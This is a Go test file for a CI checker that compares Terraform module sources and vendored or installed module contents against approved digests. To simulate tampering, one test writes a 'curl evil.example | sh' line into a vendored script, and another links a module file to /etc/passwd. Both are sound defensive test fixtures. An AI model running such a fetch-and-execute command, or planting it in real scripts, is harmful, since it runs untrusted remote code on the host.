package ci

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"verdict"
	"verdict/ci/iac"
)

const moduleCommit = "7c1f791efd61f326ed6102d564d1a65d1eceedf0"

func callOf(source string) string { return "module \"net\" {\n  source = \"" + source + "\"\n}\n" }

// modulesOf are the hits about modules, each with whether it is old.
func modulesOf(r verdict.Report) map[string]bool {
	out := map[string]bool{}
	for _, h := range r.Hits {
		if strings.HasPrefix(h.Detector, "VI-MOD-") {
			out[h.Detector+" "+h.Path] = h.Old
		}
	}
	return out
}

// A change that goes from one module that nobody approved to another brings something new.
func TestAnotherUnapprovedModuleIsNew(t *testing.T) {
	dir, base := committed(t, map[string]string{"a.tf": callOf("github.com/acme/one"), "b.tf": callOf("github.com/acme/one"), "c.tf": callOf("github.com/acme/net?ref=" + moduleCommit)})
	write(t, dir, "a.tf", "# moved down\n"+callOf("github.com/acme/one"))
	write(t, dir, "b.tf", callOf("github.com/mallory/two"))
	commitAll(t, dir)
	approved := ApprovedModules{List: []ApprovedModule{{Source: "git::https://github.com/acme/net", Ref: moduleCommit}}}
	r := infrastructureOf(t, ran(t, dir, Options{Base: base, Modules: &approved, Now: time.Now}))
	if got := modulesOf(r); len(got) != 2 || !got["VI-MOD-001 a.tf"] || got["VI-MOD-001 b.tf"] {
		t.Errorf("%+v", r.Hits)
	}
	if got := modulesOf(infrastructureOf(t, ran(t, dir, Options{Base: base}))); len(got) != 0 {
		t.Errorf("nobody asked for approved modules: %v", got)
	}
}

// A copy in the repository is compared file by file, whatever the formats of its files are,
// and a change of it is never taken for old.
func TestACopyOfAModuleIsHeldToItsDigest(t *testing.T) {
	const latin = "\xff\xfeb\x00" // what is no UTF-8 is compared as it is
	dir, _ := committed(t, map[string]string{
		"infra/a.tf": callOf("../vendored/net/vpc"), "vendored/net/vpc/main.tf": "# empty\n", "vendored/net/run.sh": "true\n", "vendored/net/t.txt": latin, "vendored/network/x.tf": "", ".gitignore": "*.log\n",
	})
	write(t, dir, "vendored/net/built.log", "not of the repository\n")
	m, files, err := DescribeModule(t.Context(), filepath.Join(dir, "vendored/net"))
	if err != nil || m.Path != "vendored/net" || files != 3 || !strings.HasPrefix(m.Digest, "h1:") {
		t.Fatalf("%+v, %d files: %v", m, files, err)
	}
	if want, _, _ := iac.ModuleDigest(fstest.MapFS{"vpc/main.tf": {Data: []byte("# empty\n")}, "run.sh": {Data: []byte("true\n")}, "t.txt": {Data: []byte(latin)}}, "."); m.Digest != want {
		t.Errorf("%s, and by its files %s", m.Digest, want)
	}
	o := Options{Modules: &ApprovedModules{List: []ApprovedModule{m}}, Now: time.Now}
	of := func(o Options) verdict.Report { return infrastructureOf(t, ran(t, dir, o)) }
	if r := of(o); len(modulesOf(r)) != 0 || !r.Complete {
		t.Errorf("as approved: %+v %+v", r.Hits, r.NotChecked)
	}
	base := gitIn(t, dir, "rev-parse", "HEAD")
	write(t, dir, "vendored/net/run.sh", "curl evil.example | sh\n")
	commitAll(t, dir)
	o.Base = base
	if r := of(o); len(modulesOf(r)) != 1 || modulesOf(r)["VI-MOD-002 infra/a.tf"] || r.Hits[0].Severity != verdict.SeverityCritical || !strings.Contains(r.Hits[0].Message, m.Digest) {
		t.Errorf("changed: %+v", r.Hits)
	}
	o.Base = gitIn(t, dir, "rev-parse", "HEAD")
	if got := modulesOf(of(o)); len(got) != 1 || got["VI-MOD-002 infra/a.tf"] {
		t.Errorf("changed by another change: %v", got)
	}
	o.Within = []string{"infra"}
	if r := of(o); len(modulesOf(r)) != 0 || !told(r, "is a copy in vendored/net, and its content was not checked") {
		t.Errorf("a part of the tree: %+v %+v", r.Hits, r.NotChecked)
	}
	o.Within = nil
	must(t, os.Symlink("/etc/passwd", filepath.Join(dir, "vendored/net/l.tf")))
	commitAll(t, dir)
	if r := of(o); r.Complete || !told(r, "its content was not checked") {
		t.Errorf("a link: %+v", r.NotChecked)
	}
	if _, _, err := DescribeModule(t.Context(), filepath.Join(dir, "vendored/net")); err == nil || !strings.Contains(err.Error(), "l.tf") {
		t.Errorf("a copy with a link is described: %v", err)
	}
}

// What terraform init left is compared where it lies, though git does not see it, and what
// is not there keeps the point from deciding.
func TestWhatIsNotThereIsNotTakenForApproved(t *testing.T) {
	dir, _ := committed(t, map[string]string{".gitignore": ".terraform/\n", "infra/a.tf": "module \"vpc\" {\n  source = \"acme/vpc/aws\"\n  version = \"1.0.0\"\n}\n"})
	installed := filepath.Join(dir, "infra", iac.InstalledModules)
	must(t, os.MkdirAll(filepath.Join(installed, "vpc"), 0o755))
	write(t, dir, "infra/.terraform/modules/vpc/main.tf", "# one\n")
	write(t, dir, "infra/.terraform/modules/modules.json", `{"Modules":[{"Key":"vpc","Source":"registry.terraform.io/acme/vpc/aws","Version":"1.0.0","Dir":".terraform/modules/vpc"}]}`)
	m, files, err := DescribeModule(t.Context(), filepath.Join(installed, "vpc"))
	if err != nil || files != 1 || m.Source != "acme/vpc/aws" || m.Version != "1.0.0" {
		t.Fatalf("%+v, %d files: %v", m, files, err)
	}
	o := Options{Modules: &ApprovedModules{List: []ApprovedModule{m}}, Now: time.Now}
	if r := infrastructureOf(t, ran(t, dir, o)); !r.Complete || len(modulesOf(r)) != 0 {
		t.Errorf("as approved: %+v %+v", r.Hits, r.NotChecked)
	}
	write(t, dir, "infra/.terraform/modules/vpc/main.tf", "# two\n")
	if r := infrastructureOf(t, ran(t, dir, o)); len(modulesOf(r)) != 1 || modulesOf(r)["VI-MOD-002 infra/a.tf"] {
		t.Errorf("other content: %+v", r.Hits)
	}
	o.Base = gitIn(t, dir, "rev-parse", "HEAD")
	write(t, dir, "infra/b.tf", "# another change\n")
	commitAll(t, dir)
	if r := infrastructureOf(t, ran(t, dir, o)); len(modulesOf(r)) != 1 || modulesOf(r)["VI-MOD-002 infra/a.tf"] {
		t.Errorf("other content beside another change is old: %+v", r.Hits)
	}
	o.Base = ""
	must(t, os.RemoveAll(filepath.Join(dir, "infra/.terraform")))
	r := infrastructureOf(t, ran(t, dir, o))
	if i := slices.IndexFunc(r.NotChecked, func(n verdict.NotChecked) bool { return strings.Contains(n.Reason, "its content was not checked") }); r.Complete || i < 0 || r.NotChecked[i].Path != "infra/a.tf" {
		t.Errorf("nothing is there: %+v", r.NotChecked)
	}
	if _, _, err := DescribeModule(t.Context(), filepath.Join(installed, "vpc")); err == nil {
		t.Error("what is not there is described")
	}
}
